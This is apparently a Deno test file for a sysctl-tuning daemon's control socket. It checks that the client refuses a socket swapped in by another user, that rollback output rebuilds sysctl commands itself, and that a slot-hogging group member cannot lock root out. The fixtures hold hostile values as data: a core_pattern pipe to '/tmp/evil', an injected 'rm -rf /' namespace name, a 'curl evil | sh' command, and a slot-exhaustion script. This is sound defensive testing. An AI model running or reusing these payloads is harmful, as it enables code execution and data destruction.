/**
 * A `--control-group` member who takes every client slot of the group socket does not lock root
 * out: root has a 0600 socket of its own with its own slots, which its client prefers.
 *
 * A swapped control socket: `nobody` runs a fake daemon in a directory they own that answers the
 * rollback verb with `sysctl -w kernel.core_pattern=|/tmp/evil`. Root's client refuses the socket
 * (owner and directory checked) and, even from a socket it trusts, prints only `sysctl -w` lines
 * it rebuilt itself for sysctls bpfpilot manages.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { IS_ROOT } from "../support/kernel.ts";
import { LAUNCHER } from "../support/daemon.ts";
import { withSandbox } from "../support/sandbox.ts";
import { renderAnswer } from "../../src/cli/query.ts";

const EVIL = [{
  tuner: "tcp_buffer",
  sysctl: "kernel.core_pattern",
  original: ["|/tmp/evil"],
  current: ["core"],
  command: "sysctl -w kernel.core_pattern=|/tmp/evil",
}];

/** Serves one connection on $path with the evil rollback answer, then exits. */
const FAKE_DAEMON_PL = `
use IO::Socket::UNIX;
my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $ARGV[0], Listen => 5) or die;
print "ready\\n"; STDOUT->flush;
my $c = $s->accept; my $req = <$c>;
print $c '${JSON.stringify({ v: 1, ok: true, data: EVIL })}' . "\\n";
close $c;
`;

Deno.test({
  name: "a control socket swapped by another user is refused; nothing of its text is printed",
  ignore: !IS_ROOT,
  async fn() {
    const dir = Deno.makeTempDirSync({ prefix: "bpfp-swap-" });
    Deno.chmodSync(dir, 0o755);
    const evilDir = `${dir}/run`;
    Deno.mkdirSync(evilDir);
    Deno.chownSync(evilDir, 65534, 65534);
    const sock = `${evilDir}/control.sock`;
    const fake = new Deno.Command("setpriv", {
      args: [
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "perl",
        "-e",
        FAKE_DAEMON_PL,
        sock,
      ],
      stdout: "piped",
      stderr: "null",
    }).spawn();
    try {
      const reader = fake.stdout.pipeThrough(new TextDecoderStream()).getReader();
      assert.match((await reader.read()).value ?? "", /ready/);
      reader.releaseLock();
      const r = spawnSync(LAUNCHER, ["query", "rollback", "--socket", sock], {
        encoding: "utf8",
        timeout: 20_000,
      });
      assert.equal(r.status, 4, r.stdout + r.stderr);
      assert.match(r.stderr, /refusing the control socket .*owned by uid 65534/);
      assert.doesNotMatch(r.stdout + r.stderr, /core_pattern|evil/);
    } finally {
      try {
        fake.kill("SIGKILL");
      } catch { /* exited */ }
      await fake.status;
      Deno.removeSync(dir, { recursive: true });
    }
  },
});

Deno.test("query rollback prints only sysctl -w lines it rebuilt, for managed sysctls", () => {
  const text = renderAnswer("rollback", [
    ...EVIL,
    {
      tuner: "tcp_buffer",
      sysctl: "net.ipv4.tcp_rmem",
      netns: "blue; rm -rf /",
      original: [4096, 131072, 6291456],
      current: [4096, 131072, 7000000],
      command: "sysctl -w net.ipv4.tcp_rmem='1 1 1'; curl evil | sh",
    },
  ]);
  assert.doesNotMatch(text, /^sysctl -w kernel\.core_pattern/m);
  assert.doesNotMatch(text, /curl/);
  assert.match(text, /# not restored: no bpfpilot tuner manages it/);
  assert.match(
    text,
    /^ip netns exec 'blue; rm -rf \/' sysctl -w net\.ipv4\.tcp_rmem="4096 131072 6291456"$/m,
  );
});

/**
 * Keeps $ARGV[1] connections open on $ARGV[0], reconnecting at once when the daemon drops one
 * (idle timeout, busy), for $ARGV[2] seconds. Says "full" once the daemon answered busy, and
 * whether it could reach root's socket $ARGV[3].
 */
const SLOT_HOG_PL = `
use IO::Socket::UNIX; use IO::Select;
my ($path, $n, $secs, $root) = @ARGV;
my $r = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => $root);
print($r ? "root-open\\n" : "root-denied $!\\n");
my $sel = IO::Select->new; my $full = 0; my $end = time + $secs;
sub hog { my $c = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => $path); $sel->add($c) if $c; }
hog() for 1..$n;
STDOUT->flush;
while (time < $end) {
  for my $c ($sel->can_read(0.2)) {
    my $got = ''; my $len = sysread($c, $got, 4096);
    if (!$full && $got =~ /"busy"/) { $full = 1; print "full\\n"; STDOUT->flush; }
    if (!$len) { $sel->remove($c); close $c; hog(); }
  }
  hog() while $sel->count < $n;
}
`;

Deno.test({
  name: "a control-group member holding every slot does not lock root out of its daemon",
  ignore: !IS_ROOT,
  async fn() {
    const nogroup = Deno.readTextFileSync("/etc/group").split("\n").map((l) => l.split(":"))
      .find((f) => f[0] === "nogroup");
    assert.ok(nogroup, "Debian's nogroup exists");
    const runDir = Deno.makeTempDirSync({ prefix: "bpfp-slots-" });
    Deno.chmodSync(runDir, 0o755);
    const sock = `${runDir}/control.sock`;
    await withSandbox("slots", async ({ start }) => {
      const daemon = start(["--control-socket", sock, "--control-group", "nogroup"]);
      let hog: Deno.ChildProcess | undefined;
      try {
        await daemon.waitFor(/bpfpilot started/, 60_000);
        hog = new Deno.Command("setpriv", {
          args: [
            "--reuid=65534",
            `--regid=${nogroup[2]}`,
            "--clear-groups",
            "perl",
            "-e",
            SLOT_HOG_PL,
            sock,
            "80",
            "20",
            `${runDir}/control.root.sock`,
          ],
          stdout: "piped",
          stderr: "null",
        }).spawn();
        const said: string[] = [];
        const reader = hog.stdout.pipeThrough(new TextDecoderStream()).getReader();
        while (!said.join("").includes("full\n")) {
          const { value, done } = await reader.read();
          if (done) break;
          said.push(value);
        }
        reader.releaseLock();
        hog.stdout.cancel().catch(() => {});
        assert.match(said.join(""), /root-denied Permission denied/);
        assert.match(said.join(""), /full/, "the group's slots are all taken");
        for (let i = 0; i < 3; i++) {
          const r = spawnSync(LAUNCHER, ["query", "status", "--json", "--socket", sock], {
            encoding: "utf8",
            timeout: 20_000,
          });
          assert.equal(r.status, 0, r.stdout + r.stderr);
          assert.equal(JSON.parse(r.stdout).daemon?.pid, daemon.pid, r.stdout);
        }
      } finally {
        try {
          hog?.kill("SIGKILL");
        } catch { /* exited */ }
        await hog?.status;
        assert.equal(await daemon.stop(), 0, daemon.lines.join("\n"));
        Deno.removeSync(runDir, { recursive: true });
      }
    });
  },
});
